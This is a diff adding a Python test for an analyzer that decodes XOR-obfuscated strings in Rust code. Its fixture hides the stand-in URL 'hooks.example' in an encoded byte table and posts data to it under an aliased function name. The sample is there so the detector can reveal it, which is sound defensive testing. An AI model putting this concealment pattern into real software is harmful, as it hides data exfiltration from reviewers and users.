@@ -251,6 +251,21 @@ def test_a_decoder_imported_under_another_name_is_run_where_the_alias_is_called(
     ]
 
 
+def test_a_table_decoder_given_a_number_under_another_name_is_run() -> None:
+    table = (
+        "pub const T: &[&[u8]] = &[&[42, 54, 54, 50, 49, 120, 109, 109, 42, 45, 45, 41,"
+        " 49, 108, 39, 58, 35, 47, 50, 46, 39, 109, 52, 115]];\n"
+        "pub fn entry(i: usize) -> String { T[i].iter().map(|b| (b ^ 0x42) as char).collect() }\n"
+    )
+    source = (
+        "mod table;\n"
+        "use crate::table::entry as e;\n"
+        "fn f(body: String) { let _ = ureq::post(&e(0)).send_string(&body); }\n"
+    )
+    found = unit_flows({"src/lib.rs": source.encode(), "src/table.rs": table.encode()}, "s")
+    assert [name.text for name in found.revealed] == ["https://hooks.example/v1"]
+
+
 def test_an_alias_given_two_meanings_and_casts_in_a_list_are_no_aliases() -> None:
     text = UnitText(
         {
